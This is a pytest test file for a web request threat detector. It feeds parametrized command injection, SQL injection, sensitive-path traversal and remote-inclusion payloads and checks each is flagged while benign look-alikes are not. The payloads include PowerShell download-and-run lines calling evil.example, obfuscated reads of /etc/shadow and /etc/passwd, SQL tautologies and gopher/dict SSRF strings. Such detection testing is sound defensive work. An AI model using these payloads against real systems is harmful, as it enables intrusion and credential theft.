"""Techniques issue 15 named as blind spots, one group per family: shell evasion and Windows
shells, short SQL tautologies, sensitive OS paths beyond /etc, remote inclusion by unusual
schemes and forms. Each attack next to the benign text it must not be confused with."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from meshward.core.observation import Observation
from meshward.core.threats import ThreatDetector
from meshward.core.threats.names import CMDI, RFI, SQLI, TRAVERSAL

DET = ThreatDetector(level=1)
FULL = ThreatDetector(level=1, prefilter=False)


def names(value: str, det: ThreatDetector = DET) -> set[str]:
    obs = Observation("t", method="GET", path="/search", query="q=" + quote(value, ""))
    return {t.name for t in det.inspect(obs).threats}


def found(value: str, name: str) -> None:
    assert name in names(value), value
    assert names(value) == names(value, FULL), value  # the pre-filter hides nothing


SHELL = [
    "/e??/sh*dow",  # glob standing in for names
    "/???/c?t /e??/p??swd",
    "cat /e*c/pa*wd",
    "c'a't /etc/passwd",  # quote and backslash splitting
    "w\\ho\\am\\i",
    '"wh"oami',
    ";'w'h'o'a'm'i",
    "report$(whoami).txt",  # substitution inside an argument
    "--output=$(id)",
    "a`id`b",
    "cmd /c whoami",  # Windows cmd and PowerShell
    "Invoke-WebRequest -Uri http://evil.example/x.ps1 -OutFile x.ps1",
    "iwr http://evil.example/x -OutFile a.exe",
    "Start-Process calc.exe",
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
    "; iex(iwr http://evil.example/a)",
    "| gci C:\\Users",
    "powershell -ExecutionPolicy Bypass -File x.ps1",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "[Convert]::FromBase64String($x)",
]
SQL = [
    "1 or 2>1",
    "x' or 'a'='a",
    "' IS NOT NULL --",
    "1 OR 1 IS NOT NULL",
    "1 || 1=1",
    "1 && 2>1",
    "1 or true",
    "1' and false--",
    "admin' or 1=1#",
]
FILES = [
    "/sys/class/net/eth0/address",
    "../../sys/kernel/notes",
    "/proc/net/tcp",
    "/proc/self/cwd/app.py",
    "/proc/kallsyms",
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "%SYSTEMROOT%\\win.ini",
    "/var/lib/mysql/mysql/user.MYD",
    "/root/.bash_history",
]
INCLUSION = [
    "//evil.example/shell.txt",
    "\\\\evil.example\\share\\x.php",
    "ftp://evil.example/x.txt",
    "smb://evil.example/share/x.php",
    "http://evil.example/x.txt#",
    "http://192.0.2.7/shell.php",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stat",
    "jar:http://evil.example/x.jar!/",
]


@pytest.mark.parametrize("value", SHELL)
def test_shell_evasion_and_windows_shells(value: str) -> None:
    found(value, CMDI)


@pytest.mark.parametrize("value", SQL)
def test_short_tautologies(value: str) -> None:
    found(value, SQLI)


@pytest.mark.parametrize("value", FILES)
def test_sensitive_os_paths(value: str) -> None:
    found(value, TRAVERSAL)


@pytest.mark.parametrize("value", INCLUSION)
def test_remote_inclusion_forms(value: str) -> None:
    found(value, RFI)


@pytest.mark.parametrize(
    "value",
    [
        "https://example.com/docs/readme.txt",  # a link is no inclusion
        "https://cdn.example.com/app.js?v=3",
        "//cdn.example.com/lib.js",
        "ftp://ftp.example.org/pub/",
        "https://example.com/page#section",
        "Is it true or false?",  # booleans in prose
        "Answer 1 or true, not both",
        "x || y",
        "a && b are both set",
        "/system/status",
        "/sys/health",  # a route of a service, not sysfs
        "see /proc for process info",
        "Start-Process is a PowerShell cmdlet",
        "iwr is short for Invoke-WebRequest",
        '"Hello" world',
        "she said 'yes' twice",
        "version 2.1 or later",
        "C: drive is full",
    ],
)
def test_benign_values_stay_clean(value: str) -> None:
    assert names(value) == set(), value
